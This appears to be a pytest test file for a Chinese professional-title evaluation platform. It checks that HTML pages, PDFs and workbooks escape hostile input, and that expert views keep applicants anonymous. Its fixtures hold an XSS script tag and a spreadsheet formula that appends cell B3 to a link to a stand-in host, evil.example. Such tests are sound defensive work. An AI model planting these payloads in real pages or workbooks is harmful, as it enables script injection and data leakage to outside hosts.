"""Hostile text everywhere (issue 10): markup, formulas, separators inside ID numbers and names, 10,000-character
strings in a profile and every free-text field; every page, PDF and workbook of every role renders, nothing is run,
and no expert-facing response names the applicant (5b, R18)."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.platform.test_evaluation import DEFENCE, SUMMARY, Spec, accepted, expert, meeting_with, one_group, sheet
from zhicheng.accounts.models import Membership, Organisation
from zhicheng.accounts.roles import OrgKind, Role
from zhicheng.evaluation.groups import rename_group
from zhicheng.evaluation.meeting import cast_ballot, close_meeting, record_opinion
from zhicheng.evaluation.models import Candidate, Group, Minutes
from zhicheng.evaluation.scoring import submit_score
from zhicheng.intake.models import SubmissionBatch
from zhicheng.records import integrity
from zhicheng.results import services as results
from zhicheng.results.models import Certificate, ResultEntry

MARKUP = '<script>alert(1)</script><img src="/local.png"/>同意<b>推荐'
FORMULA = '=HYPERLINK("http://evil.example/"&B3,"土木工程")'
LONG = "深基坑支护<i>监测</i>=SUM(A1:A9)，" * 500  # over 10,000 characters, with markup and a formula inside
NAME = "张·建　国"
ID_SPACED = "1422 0119 8805 1203 14"
RAW = ("<script>alert(1)", '<img src="/local.png"', "<b>推荐", "<i>监测")


def _html_safe(body: str, url: str) -> None:
    for raw in RAW:
        assert raw not in body, (url, raw)


def _pdf_ok(content: bytes, url: str) -> None:
    assert content.startswith(b"%PDF"), url
    assert b"/local.png" not in content, url  # no local file embedded


def _xlsx_ok(content: bytes, url: str) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet_ in book.worksheets:
        for row in sheet_.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                texts.append(str(cell.value))
    return texts


@pytest.fixture
def year(world: Any) -> dict[str, Any]:
    hostile = Spec(
        "h1",
        name=NAME,
        major=FORMULA,
        reason=MARKUP,
        summary=SUMMARY + LONG,
        defence=DEFENCE + LONG,
    )
    cases = accepted(world, [hostile, Spec("h2", reason=FORMULA)])
    experts = [expert(world, cases.office, f"e{i}") for i in range(1, 4)]
    one_group(cases, [e for _, e in experts])
    group = Group.objects.get()
    rename_group(cases.office, group.pk, "工程师<b>组</b>=1+1")
    for member, _ in experts:
        for c in Candidate.objects.all():
            s = sheet()
            s["quantified"]["awards"]["reason"] = MARKUP
            submit_score(member, c.pk, **s)
    meeting_with(cases.office, [e for _, e in experts])
    for member, _ in experts:
        for c in Candidate.objects.all():
            cast_ballot(member, 2023, c.pk, "for")
    close_meeting(cases.office, 2023)
    for c in Candidate.objects.all():
        record_opinion(cases.office, c.pk, MARKUP + FORMULA)
    start = dt.date(2023, 12, 28)
    results.post_results(cases.office, 2023, starts_on=start, today=start)
    entry = ResultEntry.objects.first()
    assert entry is not None
    objection = results.record_objection(cases.office, entry.pk, content=LONG[:2000] + MARKUP, received_on=start)
    results.handle_objection(cases.office, objection.pk, upheld=False, handling=FORMULA + MARKUP)
    city_hr = Membership.objects.filter(role=Role.CITY_HR_OFFICER).first() or world.person(
        "cityhr", Role.CITY_HR_OFFICER, Organisation.objects.get(kind=OrgKind.CITY_HR_BUREAU)
    )
    results.confirm_results(city_hr, 2023, filing_document="忻人社<b>函</b>=1", today=dt.date(2024, 1, 15))
    integrity.record_finding(
        cases.office,
        id_number="142201198805120314",
        name="李<b>四</b>",
        kind="false_materials",
        found_on=dt.date(2023, 11, 1),
        ban_years=1,
        document=FORMULA[:50],
        note=MARKUP + LONG[:400],
    )
    return {"cases": cases, "experts": experts, "city_hr": city_hr}


def _client(membership: Membership) -> Client:
    client = Client()
    client.force_login(membership.user)
    return client


def _get(client: Client, url: str) -> Any:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    kind = response.get("Content-Type", "")
    content = b"".join(response.streaming_content) if response.streaming else response.content  # type: ignore[attr-defined]
    if "html" in kind:
        _html_safe(content.decode(), url)
    elif "pdf" in kind:
        _pdf_ok(content, url)
    elif "spreadsheet" in kind:
        _xlsx_ok(content, url)
    return content


def test_every_role_renders_hostile_text_as_text(year: dict[str, Any]) -> None:
    cases = year["cases"]
    h1 = cases.by_user["h1"]
    applicant = Membership.objects.get(user=h1.applicant, role=Role.APPLICANT)
    leader = Membership.objects.filter(role=Role.EMPLOYER_LEADER).first()
    hr = Membership.objects.get(user__username="yp_hr")
    iit = Membership.objects.get(user__username="yp_iit")
    batch = SubmissionBatch.objects.get()
    minutes = Minutes.objects.order_by("-pk").first()
    assert minutes is not None
    certificate = Certificate.objects.first()
    assert leader is not None and certificate is not None
    pages: dict[Membership, list[str]] = {
        applicant: ["/", "/profile/", f"/applications/{h1.pk}/"],
        leader: ["/", f"/applications/{h1.pk}/"],
        hr: ["/", f"/applications/{h1.pk}/"],
        iit: ["/", f"/applications/{h1.pk}/", "/channel/", "/channel/summary.pdf", "/channel/summary.xlsx"],
        cases.office: [
            "/",
            "/office/",
            f"/office/applications/{h1.pk}/",
            f"/office/batches/{batch.pk}/summary.pdf",
            f"/office/batches/{batch.pk}/summary.xlsx",
            "/office/export.xlsx",
            "/evaluation/",
            f"/evaluation/minutes/{minutes.pk}.pdf",
            "/results/",
            "/integrity/",
            "/office/outcomes/",
        ],
        year["city_hr"]: ["/", "/evaluation/", "/results/", "/integrity/"],
    }
    seen: dict[str, bytes] = {}
    for membership, urls in pages.items():
        client = _client(membership)
        for url in urls:
            seen[f"{membership.role}:{url}"] = _get(client, url)
    # The hostile text is there, as text: escaped on the pages, a plain string in the workbooks.
    case_page = seen[f"county_iit_reviewer:/applications/{h1.pk}/"].decode()
    assert "同意&lt;b&gt;推荐" in case_page
    assert FORMULA in _xlsx_ok(seen["county_iit_reviewer:/channel/summary.xlsx"], "summary")
    assert FORMULA in _xlsx_ok(seen[f"committee_clerk:/office/batches/{batch.pk}/summary.xlsx"], "batch")
    assert "工程师&lt;b&gt;组&lt;/b&gt;=1+1" in seen["committee_clerk:/evaluation/"].decode()
    public = Client()
    for url in ("/public/results/2023/", f"/verify/{certificate.code}/", "/verify/"):
        _get(public, url)
    _get(_client(applicant), f"/certificates/{certificate.pk}.pdf")


def test_no_expert_facing_response_names_the_applicant_5b_R18(year: dict[str, Any]) -> None:
    cases = year["cases"]
    h1 = cases.by_user["h1"]
    secrets_ = [NAME, "张建国", "142201198805120", ID_SPACED, h1.employer.name, "原平市", "原平"]
    member, _ = year["experts"][0]
    client = _client(member)
    bodies = [_get(client, "/evaluation/expert/").decode()]
    for c in Candidate.objects.all():
        bodies.append(_get(client, f"/evaluation/expert/{c.code}/").decode())
    for body in bodies:
        for secret in secrets_:
            assert secret not in body, secret
